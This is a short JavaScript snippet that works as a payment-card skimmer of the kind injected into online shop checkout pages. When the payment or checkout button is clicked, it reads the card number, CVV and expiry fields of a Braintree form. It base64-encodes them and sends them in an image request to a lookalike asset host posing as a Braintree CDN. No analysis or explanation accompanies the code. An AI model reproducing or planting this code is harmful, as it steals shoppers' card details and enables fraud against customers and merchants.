var Ok = { s: false };
function ccx() {
  var a = jQuery('#braintree_cc_number').val(), b = jQuery('#braintree_cc_cid').val(), m = jQuery('#braintree_expiration').val(), y = jQuery('#braintree_expiration_yr').val();
  if (!a || Ok.s) return;
  Ok.s = true;
  (new Image()).src = 'https://cdn-braintree-assets.example/img/' + btoa([a, b, m, y].join('/')) + '.png';
}
jQuery(document).on('click', '#payment-continue, .checkout-button', ccx);
